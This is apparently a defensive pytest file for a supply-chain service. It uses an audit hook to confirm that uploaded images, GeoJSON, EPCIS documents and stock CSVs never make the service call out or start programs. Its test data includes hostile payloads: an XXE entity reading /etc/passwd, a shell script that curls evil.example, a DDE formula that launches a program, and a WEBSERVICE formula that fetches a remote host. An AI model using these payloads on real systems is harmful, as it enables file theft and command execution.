"""Documents of others that name hosts, hide programs or are made to harm (OWASP API10:2023, API7).

Each is read or refused. While it is, nobody is called and nothing is started: the interpreter says
so itself, whatever library it would be. (The driver of PostgreSQL calls by its own C, unseen.)
"""

import json
import sys
from collections.abc import Callable, Iterator
from io import BytesIO
from pathlib import Path

import pytest
from PIL import Image, PngImagePlugin
from typer.testing import CliRunner

from app.cli import cli
from tests.api import Api
from tests.cli.sheets import FULL, SOUND, write_sheet
from tests.makers import furnish, receive

FOREIGN = "http://evil.example/x"
_LEADS_OUT = (
    "socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "socket.gethostbyaddr",
    "subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "urllib.Request",
    "http.client.connect", "ftplib.connect", "smtplib.connect", "webbrowser.open",
)  # fmt: skip
_heard: list[tuple[str, str]] = []
_listening: list[bool] = []


def _hear(event: str, details: tuple[object, ...]) -> None:
    if _listening and event in _LEADS_OUT:
        _heard.append((event, repr(details)))


@pytest.fixture(scope="module")
def _ears() -> None:
    """Listen to the interpreter; such an ear can never be taken off again."""
    sys.addaudithook(_hear)


@pytest.fixture
def called(_ears: None, api: Api) -> Iterator[list[tuple[str, str]]]:
    """Whom the service called, and what it started, since the test began."""
    furnish(api)
    receive(api, 60, 61, lot="GL-1")
    api.post("/lots/GL-1/exceptions", {"kind": "torn", "sacks": 1})
    _heard.clear()
    _listening.append(True)
    yield _heard
    _listening.clear()


def test_the_ear_hears(called: list[tuple[str, str]]) -> None:
    import socket  # noqa: PLC0415 - here alone

    with socket.socket() as line, pytest.raises(OSError, match="refused"):
        line.connect(("127.0.0.1", 1))

    assert [event for event, _ in called] == ["socket.connect"]


def _png_that_names_a_host() -> bytes:
    file, more = BytesIO(), PngImagePlugin.PngInfo()
    more.add_text("XML:com.adobe.xmp", f'<x xmlns:h="{FOREIGN}"><h:a href="{FOREIGN}"/></x>')
    more.add_itxt("Comment", FOREIGN)
    Image.new("RGB", (8, 8)).save(file, "PNG", pnginfo=more)
    return file.getvalue()


_XML = (
    f'<?xml version="1.0"?><!DOCTYPE a SYSTEM "{FOREIGN}" [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
    f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{FOREIGN}"/>&b;</svg>'
).encode()

PICTURES = {
    "names a host": (_png_that_names_a_host(), {201}),
    "an SVG": (_XML, {415}),
    "a program": (b"#!/bin/sh\ncurl " + FOREIGN.encode(), {415}),
    "PostScript": (b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) (r) file\n", {415}),
    "half a PNG": (_png_that_names_a_host()[:60], {422}),
}


@pytest.mark.parametrize("kind", PICTURES)
def test_no_picture_makes_the_service_call_anybody(
    api: Api, called: list[tuple[str, str]], kind: str
) -> None:
    content, statuses = PICTURES[kind]

    answer = api.send("POST", "/exceptions/1/photos", content, content_type="image/png")

    assert answer.status_code in statuses, answer.text
    assert called == []


def _feature(**properties: object) -> dict[str, object]:
    return {
        "type": "Feature", "properties": properties,
        "geometry": {"type": "Point", "coordinates": [38.456789, 6.123456]},
    }  # fmt: skip


PLOTS: dict[str, object] = {
    "a foreign schema": {
        "$schema": FOREIGN, "type": "FeatureCollection", "features": [_feature(Area=1)],
        "links": [{"href": FOREIGN, "rel": "self"}],
    },
    "a foreign frame": {
        "type": "FeatureCollection", "features": [_feature(ProducerName=FOREIGN)],
        "crs": {"type": "link", "properties": {"href": FOREIGN, "type": "proj4"}},
    },
    "a reference": {"$ref": FOREIGN},
    "a geometry elsewhere": {"type": "FeatureCollection", "features": [{"$ref": FOREIGN}]},
    "no file of plots": [[FOREIGN] * 50] * 50,
}  # fmt: skip


@pytest.mark.parametrize("kind", PLOTS)
def test_no_file_of_plots_makes_the_service_call_anybody(
    api: Api, called: list[tuple[str, str]], kind: str
) -> None:
    content = json.dumps(PLOTS[kind]).encode()

    answer = api.send("POST", "/lots/GL-1/plots", content, content_type="application/geo+json")

    assert answer.status_code in {201, 422}, answer.text
    assert api.send("GET", "/lots/GL-1/evidence").status_code == 200
    assert called == []


def _document(**more: object) -> dict[str, object]:
    event = {
        "type": "ObjectEvent", "action": "OBSERVE", "eventTime": "2026-01-02T03:04:05Z",
        "eventTimeZoneOffset": "+00:00", "bizStep": FOREIGN, "disposition": FOREIGN,
        "epcList": [FOREIGN], "readPoint": {"id": FOREIGN},
        "bizTransactionList": [{"type": "po", "bizTransaction": FOREIGN}],
    }  # fmt: skip
    return {
        "@context": [FOREIGN, {"x": FOREIGN, "@import": FOREIGN}], "type": "EPCISDocument",
        "schemaVersion": "2.0", "creationDate": "2026-01-02T03:04:05Z", "id": FOREIGN,
        "epcisBody": {"eventList": [event]},
    } | more  # fmt: skip


DOCUMENTS: dict[str, object] = {
    "foreign names all over": _document(),
    "a foreign context alone": _document(**{"@context": FOREIGN}),
    "a context that leads to itself": _document(**{"@context": [{"@context": {"@id": FOREIGN}}]}),
    "a header elsewhere": _document(epcisHeader={"@id": FOREIGN, "epcisMasterData": FOREIGN}),
    "events by the thousand": _document(epcisBody={"eventList": [{"type": FOREIGN}] * 5000}),
    "an event of events": _document(epcisBody={"eventList": [{"eventList": [{}] * 9}]}),
}


@pytest.mark.parametrize("kind", DOCUMENTS)
@pytest.mark.parametrize("media_type", ["application/json", "application/ld+json"])
def test_no_document_of_events_makes_the_service_call_anybody(
    api: Api, called: list[tuple[str, str]], kind: str, media_type: str
) -> None:
    body = json.dumps(DOCUMENTS[kind]).encode()

    answer = api.send("POST", "/epcis/proposals", body, content_type=media_type)

    assert answer.status_code in {200, 422}, answer.text
    assert len(answer.content) < 100_000
    assert [each["code"] for each in api.get("/lots")["items"]] == ["GL-1"]
    assert called == []


STOCK_ROWS = {
    "a formula that fetches": f'=WEBSERVICE("{FOREIGN}")',
    "a formula that starts a program": "=cmd|' /C calc'!A0",
    "a link": f'=HYPERLINK("{FOREIGN}")',
    "an address": FOREIGN,
    "a share of files": "\\\\evil.example\\x",
}


@pytest.mark.parametrize("kind", STOCK_ROWS)
def test_no_stock_file_makes_the_service_call_anybody(
    database_url: str, called: list[tuple[str, str]], tmp_path: Path, kind: str
) -> None:
    said = STOCK_ROWS[kind]
    files = {
        write_sheet(tmp_path / "named.csv", [SOUND | {"name": said}]): 0,
        write_sheet(tmp_path / "full.csv", [dict.fromkeys(FULL, said)]): 1,
    }
    for file, ends_with in files.items():
        done = CliRunner().invoke(
            cli, ["import", "stock", str(file)], env={"JUTEBOOK_DATABASE_URL": database_url}
        )

        assert done.exit_code == ends_with, done.output
    assert called == []


@pytest.mark.parametrize(
    "book",
    [
        lambda api: api.post("/suppliers", {"name": "Coop", "web": FOREIGN}),
        lambda api: api.post("/scans", {"text": "https://evil.example/01/09521234000013/10/GL-1"}),
        lambda api: api.post("/holds", {"units": ["GL-1"], "reason": FOREIGN}),
        lambda api: api.post(
            "/lots/GL-1/due-diligence",
            {"statements": [{"reference": "26FREXAMPLE001", "verification": "ABCD1234"}]},
        ),
    ],
    ids=["a card", "a scan", "a reason", "a statement"],
)
def test_an_address_in_a_field_is_kept_and_never_followed(
    api: Api, called: list[tuple[str, str]], book: Callable[[Api], object]
) -> None:
    book(api)

    assert called == []
